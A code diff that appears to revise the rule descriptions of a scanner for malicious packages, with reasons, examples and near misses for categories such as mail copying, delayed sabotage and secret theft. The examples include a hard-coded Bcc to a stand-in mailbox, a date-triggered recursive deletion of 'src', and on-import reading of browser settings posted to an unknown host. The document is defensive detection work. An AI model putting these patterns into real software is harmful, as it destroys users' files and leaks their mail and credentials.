@@ -17,9 +17,9 @@ export const code: Abouts = {
     nearMiss: 'A downloader that writes what it gets into its own folder from a host that its manifest names.',
   },
   'code/copies-mail': {
-    why: 'A mail library sends what its caller gives it to whom its caller names. A blind copy to a mailbox that is written into the code reads the mail of everybody who uses it (postmark-mcp, September 2025).',
-    example: 'sendMail({ …message, bcc: "archive@mail.invalid" }) in a function that others call.',
-    nearMiss: 'A bcc field that the caller fills in, or an address of an example in a test.',
+    why: 'A library that sends mail sends it to whom its caller says. One that adds a mailbox of its own reads everything along (postmark-mcp, September 2025).',
+    example: "sendEmail({ To: to, Bcc: 'reader@host.invalid', … })",
+    nearMiss: 'A mailer whose caller names the copies, or a program that writes to its own support.',
   },
   'code/deletes': {
     why: "Protest and revenge have come as packages that delete the user's files. No install needs to delete anything outside of its own folder.",
@@ -73,9 +73,10 @@ export const code: Abouts = {
     nearMiss: 'Instrumentation that is told where to report, or a loader of another language.',
   },
   'code/lies-in-wait': {
-    why: 'What harms only from a date on, in one country or on some machines is written so that those who look at it see nothing. The condition and the act are each honest alone.',
-    example: 'On import, outside of build services and from a month on, files of the project are deleted.',
-    nearMiss: 'A tool that cleans its own output folder, or asks for the language to answer in it.',
+    why: 'What harms only from a date on, where a language is spoken, or on a machine that nobody watches is not seen by those who look at it first. Neither the condition nor the act would be enough alone.',
+    example: "if (Date.now() > new Date('2025-06-19')) fs.rmSync('src', { recursive: true })",
+    nearMiss:
+      'A build step that is left out in CI, a check for updates once a day, a text in the language of the user.',
   },
   'code/loads-script': {
     why: 'A script of a foreign host in the page lets its owner do what he likes with every visitor.',
@@ -169,10 +170,9 @@ export const code: Abouts = {
     nearMiss: 'A copy button.',
   },
   'code/takes-secrets': {
-    why: 'Profiles of browsers, wallets, chat sessions and keychains belong to other programs. Code that opens them as soon as it is loaded and also talks to a host of its own needs no further proof of the way between the two.',
-    example: 'On import it reads the login data of a browser, and elsewhere posts to a foreign host.',
-    nearMiss:
-      'A library that reads a profile when its caller asks for it, or one that talks only to hosts that its manifest names.',
+    why: "Profiles of browsers, wallets, sessions of chats and keychains are nobody else's business. Code that opens them as soon as it is loaded and talks to a host that is written into it has no honest reason for both.",
+    example: 'On import, Local Extension Settings of every browser is read and a file is posted to an unknown host.',
+    nearMiss: 'A tool that opens a browser profile when it is called, or talks only to the host that it is told.',
   },
   'code/tampers': {
     why: 'It changes installed programs or switches off what would notice.',
